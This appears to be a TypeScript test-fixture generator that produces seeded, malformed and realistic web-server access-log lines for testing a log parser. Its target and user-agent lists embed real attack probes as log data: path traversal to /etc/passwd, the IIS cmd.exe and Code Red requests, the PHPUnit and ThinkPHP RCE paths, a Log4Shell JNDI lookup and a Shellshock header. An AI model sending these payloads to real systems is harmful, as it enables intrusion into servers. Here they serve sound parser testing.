/** A small seeded source of numbers, so that a failing run can be repeated. */
export interface Dice {
  below(n: number): number
  pick<T>(from: readonly T[]): T
}

export function dice(seed: number): Dice {
  let state = seed >>> 0 || 1
  const next = (): number => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32
  }
  const below = (n: number): number => Math.floor(next() * n)
  return { below, pick: (from) => from[below(from.length)]! }
}

const TARGETS = [
  '/',
  '/index.html',
  '/news/2026/11/12345',
  '/search?q=shoes+red&page=2',
  '/default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
  '/cgi-bin/%2e%2e%2f%2e%2e%2fetc/passwd',
  '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir',
  '/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array',
  '/.env',
  '/nobody/knows/this?a=1&b=2',
  '/wp-login.php',
]
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0',
  'curl/8.5.0',
  '-',
  '${jndi:ldap://198.51.100.7/a}',
  '() { :; }; echo',
  'zgrab/0.x',
]
const MONTH = 'Nov'

export function address(random: Dice): string {
  const kind = random.below(20)
  if (kind === 0) return `2001:db8:${random.below(9)}::${random.below(99)}`
  if (kind === 1) return `::ffff:192.0.2.${random.below(50)}`
  if (kind === 2) return `host${random.below(5)}.example.net`
  return `198.51.${random.below(4)}.${random.below(60)}`
}

export function combinedLine(random: Dice, second: number): string {
  const clock = new Date(1793491200000 + second * 1000).toISOString()
  const time = `${clock.slice(8, 10)}/${MONTH}/2026:${clock.slice(11, 19)} +0000`
  const status = random.pick([200, 200, 200, 301, 404, 404, 500])
  const method = random.pick(['GET', 'GET', 'GET', 'POST', 'HEAD', 'OPTIONS', 'PROPFIND'])
  const request =
    random.below(40) === 0
      ? random.pick(['\\x16\\x03\\x01\\x02', '', '-', 'GET /'])
      : `${method} ${random.pick(TARGETS)} HTTP/1.1`
  return `${address(random)} - - [${time}] "${request}" ${status} ${random.below(9999)} "-" "${random.pick(AGENTS)}"`
}

export function caddyLine(random: Dice, second: number): string {
  const request = {
    remote_ip: address(random),
    proto: 'HTTP/1.1',
    method: 'GET',
    host: 'example.org',
    uri: random.pick(TARGETS),
    headers: { 'User-Agent': [random.pick(AGENTS)], Referer: ['http://e.org/"q"\\'] },
  }
  return JSON.stringify({
    level: 'info',
    ts: 1793491200 + second,
    logger: 'http.log.access',
    msg: 'handled request',
    request,
    status: random.pick([200, 404]),
    size: 5,
  })
}

export const W3C_FIELDS = [
  'date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)',
  'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status time-taken',
]

export function w3cLine(random: Dice, second: number, fields: string): string {
  const clock = new Date(1793491200000 + second * 1000).toISOString()
  const [stem, query] = random.pick(TARGETS).replaceAll(' ', '+').split('?')
  const values: Record<string, string> = {
    date: clock.slice(0, 10),
    time: clock.slice(11, 19),
    'c-ip': address(random),
    's-ip': '203.0.113.1',
    'cs-method': 'GET',
    'cs-uri-stem': stem ?? '-',
    'cs-uri-query': query ?? '-',
    'sc-status': random.pick(['200', '404']),
    'cs(User-Agent)': random.pick(AGENTS).replaceAll(' ', '+'),
  }
  return fields
    .split(' ')
    .map((field) => values[field] ?? '-')
    .join(' ')
}

/** A log of `lines` lines, with everything that real ones hold and some things they should not. */
export function mixedLog(random: Dice, lines: number): Buffer {
  const parts: string[] = []
  for (let i = 0; i < lines; i++) {
    const kind = random.below(60)
    const end = random.below(9) === 0 ? '\r\n' : '\n'
    if (kind === 0) parts.push(`${'\0'.repeat(random.below(9))}${end}`)
    else if (kind === 1) parts.push(`${caddyLine(random, i)}${end}`)
    else if (kind === 2) parts.push(`no log line at all ${random.below(9)}${end}`)
    else if (kind === 3 && i % 7 === 0)
      parts.push(`${combinedLine(random, i).slice(0, -1)}${'A'.repeat(65_000 + random.below(90_000))}"${end}`)
    else if (kind === 4) parts.push(end)
    else parts.push(`${combinedLine(random, random.below(5) === 0 ? i - 30 : i)}${end}`)
  }
  return Buffer.from(parts.join(''), 'latin1')
}

export function lines(count: number, line: (i: number) => string): Buffer {
  return Buffer.from(Array.from({ length: count }, (_, i) => `${line(i)}\n`).join(''), 'latin1')
}
